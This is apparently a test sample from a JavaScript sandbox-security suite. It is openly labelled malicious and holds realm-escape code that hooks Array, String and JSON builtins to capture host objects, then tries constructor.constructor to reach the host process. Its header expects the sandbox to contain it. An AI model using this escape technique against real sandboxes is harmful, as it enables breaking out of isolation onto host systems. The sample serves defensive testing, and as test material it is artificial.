/*---
id: re-builtin-lookup-03-array-json
description: "Replaces Array.prototype.push/join/map, JSON.stringify and String.prototype methods that a runtime might use when formatting logs and results, recording their receivers while keeping behaviour intact."
kind: malicious
category: realm-escape
technique: RE-builtin-lookup
variant: combined
references:
  - "CVE-2022-25893"
  - "vm2 ATTACKS cat. 10-11"
  - "CVE-2026-47698"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "result intact" }
  high-security: { outcome: contained, value: "result intact" }
  tenant-isolated: { outcome: contained, value: "result intact" }
---*/
const seen = new Set();
const wrap = (holder, name) => {
  const orig = holder[name];
  holder[name] = function (...args) { seen.add(this); for (const a of args) seen.add(a); return orig.apply(this, args); };
};
wrap(Array.prototype, 'push'); wrap(Array.prototype, 'join'); wrap(Array.prototype, 'map');
wrap(String.prototype, 'slice'); wrap(String.prototype, 'concat');
const origStringify = JSON.stringify;
JSON.stringify = function (...args) { for (const a of args) seen.add(a); return origStringify(...args); };
console.log('payload', [1, 2], { k: 'v' });
for (const v of seen) {
  if (v === null || (typeof v !== 'object' && typeof v !== 'function')) continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') console.log('ESCAPED'); } catch (e) {}
}
return 'result intact';
